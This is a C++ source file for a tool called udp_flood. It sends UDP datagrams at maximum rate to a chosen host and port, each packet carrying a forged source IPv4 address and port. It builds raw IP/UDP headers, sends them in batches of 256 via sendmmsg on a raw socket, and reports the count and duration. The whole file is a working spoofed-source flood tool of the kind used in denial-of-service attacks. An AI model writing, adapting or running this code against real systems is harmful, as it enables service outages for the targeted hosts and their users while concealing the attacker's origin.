// Sends UDP datagrams over IPv4, each from another forged source, as fast as this machine can.
//
//   udp_flood DESTINATION PORT COUNT FIRST_SOURCE PAYLOAD_IN_HEX
//
// The sources are the COUNT addresses from FIRST_SOURCE on, over and over, from ports above 1023.
// Ends once it has sent COUNT datagrams and its standard input has ended. Prints one JSON line: how
// many were sent, and in how many seconds. Takes CAP_NET_RAW.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

constexpr size_t kBatch = 256;

int Check(int result, const char* what) {
  if (result >= 0) return result;
  std::fprintf(stderr, "udp_flood: %s: %s\n", what, std::strerror(errno));
  std::exit(1);
}

in_addr Address(const char* text) {
  in_addr address;
  if (inet_pton(AF_INET, text, &address) == 1) return address;
  std::fprintf(stderr, "udp_flood: %s is no IPv4 address\n", text);
  std::exit(2);
}

std::string FromHex(const std::string& hex) {
  std::string bytes;
  for (size_t i = 0; i + 1 < hex.size(); i += 2) {
    bytes += static_cast<char>(std::stoul(hex.substr(i, 2), nullptr, 16));
  }
  return bytes;
}

// A batch of packets that differ in their sources alone.
class Batch {
 public:
  Batch(in_addr destination, uint16_t port, const std::string& payload) {
    address_.sin_family = AF_INET;
    address_.sin_addr = destination;
    for (size_t i = 0; i < kBatch; ++i) {
      std::vector<char>& packet = packets_[i];
      packet.resize(sizeof(iphdr) + sizeof(udphdr) + payload.size());
      iphdr& ip = *Ip(i);
      ip.version = 4;
      ip.ihl = sizeof(iphdr) / 4;
      ip.ttl = 64;
      ip.protocol = IPPROTO_UDP;
      ip.daddr = destination.s_addr;
      // Total length and checksum of the header are made by the kernel: raw(7). A UDP checksum of 0
      // means none: RFC 768.
      udphdr& udp = *Udp(i);
      udp.dest = htons(port);
      udp.len = htons(static_cast<uint16_t>(sizeof(udphdr) + payload.size()));
      std::memcpy(packet.data() + sizeof(iphdr) + sizeof(udphdr), payload.data(), payload.size());
      parts_[i] = {packet.data(), packet.size()};
      messages_[i].msg_hdr.msg_name = &address_;
      messages_[i].msg_hdr.msg_namelen = sizeof(address_);
      messages_[i].msg_hdr.msg_iov = &parts_[i];
      messages_[i].msg_hdr.msg_iovlen = 1;
    }
  }
  Batch(const Batch&) = delete;
  Batch& operator=(const Batch&) = delete;

  void SetSource(size_t i, uint32_t host_order, uint16_t port) {
    Ip(i)->saddr = htonl(host_order);
    Udp(i)->source = htons(port);
  }
  // Sends all of them.
  void Send(int fd) {
    for (size_t sent = 0; sent < kBatch;) {
      const int count =
          sendmmsg(fd, messages_.data() + sent, static_cast<unsigned>(kBatch - sent), 0);
      if (count > 0) sent += static_cast<size_t>(count);
      if (count < 0 && errno != ENOBUFS && errno != EAGAIN) Check(count, "sendmmsg");
    }
  }

 private:
  iphdr* Ip(size_t i) { return reinterpret_cast<iphdr*>(packets_[i].data()); }
  udphdr* Udp(size_t i) { return reinterpret_cast<udphdr*>(packets_[i].data() + sizeof(iphdr)); }

  sockaddr_in address_{};
  std::array<std::vector<char>, kBatch> packets_;
  std::array<iovec, kBatch> parts_{};
  std::array<mmsghdr, kBatch> messages_{};
};

bool InputHasEnded() {
  pollfd input{STDIN_FILENO, POLLIN, 0};
  char byte;
  return poll(&input, 1, 0) > 0 && read(STDIN_FILENO, &byte, 1) <= 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 6) {
    std::fprintf(stderr, "udp_flood DESTINATION PORT COUNT FIRST_SOURCE PAYLOAD_IN_HEX\n");
    return 2;
  }
  const uint64_t count = std::stoull(argv[3]);
  const uint32_t first_source = ntohl(Address(argv[4]).s_addr);
  Batch batch(Address(argv[1]), static_cast<uint16_t>(std::stoul(argv[2])), FromHex(argv[5]));
  const int fd = Check(socket(AF_INET, SOCK_RAW, IPPROTO_RAW), "socket");
  const auto begin = std::chrono::steady_clock::now();
  uint64_t sent = 0;
  while (sent < count || !InputHasEnded()) {
    for (size_t i = 0; i < kBatch; ++i) {
      const uint64_t number = sent + i;
      batch.SetSource(i, first_source + static_cast<uint32_t>(number % count),
                      static_cast<uint16_t>(20'000 + number % 40'000));
    }
    batch.Send(fd);
    sent += kBatch;
  }
  const std::chrono::duration<double> took = std::chrono::steady_clock::now() - begin;
  std::printf("{\"sent\": %llu, \"seconds\": %.3f}\n", static_cast<unsigned long long>(sent),
              took.count());
  return 0;
}
